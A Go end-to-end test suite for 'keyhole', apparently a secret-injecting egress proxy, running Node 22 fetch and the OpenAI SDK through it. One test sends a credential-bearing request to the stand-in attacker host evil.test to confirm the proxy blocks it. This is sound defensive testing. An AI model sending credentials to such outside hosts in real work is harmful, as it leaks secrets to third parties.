package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
)

// npmDir is where .ci/run installs the npm packages these tests run: Node
// 22 (the "node" package) and the OpenAI SDK. KEYHOLE_E2E_NPM_DIR
// overrides it.
func npmDir() string {
	if d := os.Getenv("KEYHOLE_E2E_NPM_DIR"); d != "" {
		return d
	}
	home, _ := os.UserHomeDir()
	return filepath.Join(home, ".cache", "keyhole-e2e")
}

// missing fails the test under CI=true, where every client must be
// present, and skips it otherwise.
func missing(t *testing.T, format string, args ...any) {
	t.Helper()
	if os.Getenv("CI") == "true" {
		t.Fatalf(format+" (required under CI=true; .ci/run installs it)", args...)
	}
	t.Skipf(format+" (.ci/run installs it)", args...)
}

// node22 returns the Node.js 22.21+ binary from npmDir: the first release
// line besides 24+ whose fetch honours HTTPS_PROXY with NODE_USE_ENV_PROXY.
func node22(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(npmDir(), "node_modules", "node", "bin", "node")
	out, err := exec.Command(bin, "--version").Output()
	if err != nil {
		missing(t, "node 22 is not installed in %s: %v", npmDir(), err)
	}
	v := strings.TrimSpace(string(out))
	parts := strings.SplitN(strings.TrimPrefix(v, "v"), ".", 3)
	major, _ := strconv.Atoi(parts[0])
	minor := 0
	if len(parts) > 1 {
		minor, _ = strconv.Atoi(parts[1])
	}
	if major < 22 || (major == 22 && minor < 21) {
		missing(t, "node in %s is %s, want 22.21 or later", npmDir(), v)
	}
	return bin
}

// runNode runs script with Node 22 from npmDir (so require finds the
// packages installed there) through keyhole, configured only by the
// environment variables `keyhole env` exports, and returns its stdout.
func runNode(t *testing.T, k *keyhole, script string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, node22(t), "-e", script)
	cmd.Dir = npmDir()
	proxy := k.ProxyURL("", "")
	cmd.Env = append(baseEnv(), "HTTPS_PROXY="+proxy, "HTTP_PROXY="+proxy,
		"NODE_USE_ENV_PROXY=1", "NODE_EXTRA_CA_CERTS="+k.CAFile)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		assertNoSecretIn(t, "node's stderr", stderr.String())
		t.Fatalf("node: %v\nstderr:\n%s", err, stderr.String())
	}
	return string(out)
}

// nodeFetchScript fetches each request of its JSON argument in turn and
// prints one JSON line per response: status, reason header and body.
const nodeFetchScript = `
const reqs = JSON.parse(process.env.REQS);
(async () => {
  for (const r of reqs) {
    const res = await fetch(r.url, { headers: r.headers });
    const body = await res.text();
    console.log(JSON.stringify({ status: res.status, reason: res.headers.get("x-keyhole-reason") || "", echo: res.headers.get("x-echo-authorization") || "", body }));
  }
})().catch((e) => { console.error(String(e && e.cause || e)); process.exit(1); });
`

// TestNode22FetchEnvProxy: Node 22's built-in fetch, pointed at keyhole by
// HTTPS_PROXY and NODE_USE_ENV_PROXY=1 alone, gets the secret injected,
// the echo scrubbed, and a refusal it can read.
func TestNode22FetchEnvProxy(t *testing.T) {
	w := newWorld(t, "")
	node22(t)
	reqs, _ := json.Marshal([]map[string]any{
		{"url": "https://api.stripe.test/v1/charges", "headers": map[string]string{"Authorization": "Bearer <<STRIPE>>"}},
		{"url": "https://evil.test/v1/charges", "headers": map[string]string{"Authorization": "Bearer <<STRIPE>>"}},
	})
	t.Setenv("REQS", string(reqs))
	out := runNode(t, w.k, nodeFetchScript)
	assertNoSecretIn(t, "node's output", out)
	lines := strings.Split(strings.TrimSpace(out), "\n")
	if len(lines) != 2 {
		t.Fatalf("node printed %d lines, want 2:\n%s", len(lines), out)
	}
	var ok, refused struct {
		Status int    `json:"status"`
		Reason string `json:"reason"`
		Echo   string `json:"echo"`
		Body   string `json:"body"`
	}
	if err := json.Unmarshal([]byte(lines[0]), &ok); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal([]byte(lines[1]), &refused); err != nil {
		t.Fatal(err)
	}
	if ok.Status != http.StatusOK || ok.Echo != "Bearer <<STRIPE>>" || !strings.Contains(ok.Body, "Bearer <<STRIPE>>") {
		t.Errorf("allowed request: got status %d, echo %q; want 200 and the placeholder echoed back", ok.Status, ok.Echo)
	}
	if got := w.stripe.Last(t).Header.Get("Authorization"); got != "Bearer "+stripeValue {
		t.Errorf("upstream did not receive the real secret")
	}
	if refused.Status != http.StatusForbidden || refused.Reason != "host_not_allowed" || !strings.Contains(refused.Body, `"reason":"host_not_allowed"`) {
		t.Errorf("refused request: got status %d, reason %q, body %s; want 403 host_not_allowed with its JSON body", refused.Status, refused.Reason, refused.Body)
	}
	if w.evil.Hits() != 0 {
		t.Errorf("evil.test received %d requests, want 0", w.evil.Hits())
	}
}

// openAIRules gives the OpenAI SDK its key, as a model API's rule would.
// The key is stripeValue, so the harness's scan of keyhole's output and
// assertNoSecretIn cover it.
const openAIRules = `
secrets:
  OPENAI:
    source: env:STRIPE_KEY
    hosts: [api.openai.test]
    headers: [Authorization]
    methods: [POST]
    paths: ["/v1/*"]
egress:
  default: deny
resolve:
  api.openai.test: %s
`

// chatCompletionsSSE speaks the chat-completions streaming format. It
// answers 401 unless the real key arrived, and its second chunk echoes the
// key, as a model quoting its prompt might.
func chatCompletionsSSE(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path != "/v1/chat/completions" || r.Method != http.MethodPost {
		http.NotFound(w, r)
		return
	}
	if r.Header.Get("Authorization") != "Bearer "+stripeValue {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusUnauthorized)
		fmt.Fprint(w, `{"error":{"message":"Incorrect API key provided","type":"invalid_request_error","code":"invalid_api_key"}}`)
		return
	}
	w.Header().Set("Content-Type", "text/event-stream")
	w.Header().Set("Cache-Control", "no-cache")
	flusher := w.(http.Flusher)
	chunk := func(delta map[string]string, finish any) {
		b, _ := json.Marshal(map[string]any{
			"id": "chatcmpl-test", "object": "chat.completion.chunk", "created": 1767225600, "model": "gpt-test",
			"choices": []map[string]any{{"index": 0, "delta": delta, "finish_reason": finish}},
		})
		fmt.Fprintf(w, "data: %s\n\n", b)
		flusher.Flush()
	}
	chunk(map[string]string{"role": "assistant", "content": "your key is "}, nil)
	chunk(map[string]string{"content": strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")}, nil)
	chunk(map[string]string{"content": "."}, nil)
	chunk(map[string]string{}, "stop")
	fmt.Fprint(w, "data: [DONE]\n\n")
	flusher.Flush()
}

// openAIScript streams a chat completion with the OpenAI JS SDK and prints
// each content delta on its own line, then "chunks=N".
const openAIScript = `
const mod = require("openai");
const OpenAI = mod.OpenAI || mod.default || mod;
(async () => {
  const client = new OpenAI({ apiKey: "<<OPENAI>>", baseURL: "https://api.openai.test/v1", maxRetries: 0, timeout: 30000 });
  const stream = await client.chat.completions.create({ model: "gpt-test", stream: true, messages: [{ role: "user", content: "what is my key?" }] });
  let n = 0;
  for await (const c of stream) {
    n++;
    const d = c.choices[0] && c.choices[0].delta && c.choices[0].delta.content;
    if (d) console.log(JSON.stringify(d));
  }
  console.log("chunks=" + n);
})().catch((e) => { console.error(String(e && (e.cause || e.message) || e)); process.exit(1); });
`

// TestOpenAISDKStreamsThroughKeyhole: the OpenAI JS SDK on Node 22 streams
// a chat completion through keyhole: the real key reaches the server (which
// refuses anything else), every chunk arrives, and the chunk that echoes
// the key comes back as the placeholder.
func TestOpenAISDKStreamsThroughKeyhole(t *testing.T) {
	node22(t)
	if _, err := os.Stat(filepath.Join(npmDir(), "node_modules", "openai", "package.json")); err != nil {
		missing(t, "the openai npm package is not installed in %s: %v", npmDir(), err)
	}
	up := newUpstream(t, []string{"api.openai.test"}, http.HandlerFunc(chatCompletionsSSE))
	k := startKeyhole(t, fmt.Sprintf(openAIRules, up.Addr()))
	out := runNode(t, k, openAIScript)
	assertNoSecretIn(t, "the SDK's output", out)
	want := "\"your key is \"\n\"<<OPENAI>>\"\n\".\"\nchunks=4\n"
	if out != want {
		t.Errorf("streamed deltas:\ngot  %q\nwant %q", out, want)
	}
	if up.Hits() != 1 {
		t.Errorf("upstream got %d requests, want 1", up.Hits())
	}
	rec := k.WaitAudit(t, func(r map[string]any) bool { return r["path"] == "/v1/chat/completions" })
	if rec["decision"] != "allow" || fmt.Sprint(rec["secrets"]) != "[OPENAI]" || rec["scrubbed"] != float64(1) {
		t.Errorf("audit record: got decision %v, secrets %v, scrubbed %v; want allow, [OPENAI], 1", rec["decision"], rec["secrets"], rec["scrubbed"])
	}
}
